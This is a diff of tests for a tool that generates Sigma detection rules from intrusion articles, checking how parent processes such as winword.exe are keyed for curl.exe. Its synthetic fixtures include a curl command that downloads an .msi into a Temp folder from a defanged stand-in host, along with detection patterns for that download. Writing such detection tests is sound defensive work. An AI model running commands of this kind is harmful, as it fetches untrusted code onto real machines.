@@ -2,25 +2,26 @@ import { selfTestRule } from '../evaluate/self-test';
 import { generateBuiltinRules } from './builtin-sigma-agent';
 import { knownSpellings } from './technique-match';
 
-// The parent a program was started by, where the article's process tree shows it, goes into the program's rule.
-// Synthetic examples; none comes from an article.
+// The parent a program was started by, where the article's process tree shows it and the pair is suspicious in
+// itself, goes into the program's rule. Synthetic examples; none comes from an article.
 const article = { title: 'Synthetic intrusion note', url: 'https://notes.example.org/synthetic', date: '2026-11-28' };
 const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
-const line = 'cmd /c curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi hxxps://dl.quillmirror[.]example/q.msi';
+const line = 'curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi hxxps://dl.quillmirror[.]example/q.msi';
+const fromDocument = { ...item, value: 'winword.exe -> curl.exe', parent: 'winword.exe', child: 'curl.exe' };
 
 describe("a program's rule keys the parent the article shows", () => {
   const drafts = generateBuiltinRules({
     article,
     platform: 'windows',
-    cmdlines: [{ ...item, value: line, executable: 'cmd' }],
-    processPairs: [{ ...item, value: 'cmd.exe -> curl.exe', parent: 'cmd.exe', child: 'curl.exe' }],
+    cmdlines: [{ ...item, value: line, executable: 'curl' }],
+    processPairs: [fromDocument],
   });
   const curl = drafts.find((draft) => JSON.stringify(draft.rule.detection).includes('\\\\curl.exe'));
 
   it('writes the parent beside the program and the command line, all required', () => {
     expect(curl?.rule.detection).toMatchObject({
       selection_img: [{ 'Image|endswith': '\\curl.exe' }, { OriginalFileName: 'curl.exe' }],
-      selection_parent: { 'ParentImage|endswith': '\\cmd.exe' },
+      selection_parent: { 'ParentImage|endswith': '\\winword.exe' },
       condition: 'all of selection_*',
     });
     // The switch, the folder, the file type and the scheme, as an engineer keys a download.
@@ -29,16 +30,21 @@ describe("a program's rule keys the parent the article shows", () => {
     });
   });
 
-  it('still fires on the command line it was written from, and not when another parent starts the program', () => {
+  it('fires on the pair the article shows, and not when another parent starts the program', () => {
     const rule = curl?.rule as unknown as Record<string, unknown>;
-    expect(selfTestRule(rule, [{ type: 'cmdline', value: line }]).fires).toBe(true);
+    const pair = { type: 'process_lineage', value: fromDocument.value, attributes: { parent: 'winword.exe', child: 'curl.exe' } };
+    expect(selfTestRule(rule, [{ type: 'cmdline', value: line }, pair]).fires).toBe(true);
     const direct = 'curl -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi https://dl.quillmirror.example/q.msi';
     expect(selfTestRule(rule, [{ type: 'cmdline', value: `powershell -c "${direct}"` }]).fires).toBe(false);
   });
 
-  it('writes no parent where the article shows none', () => {
-    const alone = generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: line, executable: 'cmd' }] });
+  it('writes no parent where the article shows none, nor where a shell started the program as any operator would', () => {
+    const cmdlines = [{ ...item, value: line, executable: 'curl' }];
+    const alone = generateBuiltinRules({ article, platform: 'windows', cmdlines });
     expect(JSON.stringify(alone.map((draft) => draft.rule.detection))).not.toContain('ParentImage');
+    const fromShell = { ...item, value: 'cmd.exe -> curl.exe', parent: 'cmd.exe', child: 'curl.exe' };
+    const shell = generateBuiltinRules({ article, platform: 'windows', cmdlines, processPairs: [fromShell] });
+    expect(JSON.stringify(shell.map((draft) => draft.rule.detection))).not.toContain('ParentImage');
   });
 
   it("backs a program's OriginalFileName by the program the text names, for the fidelity check", () => {
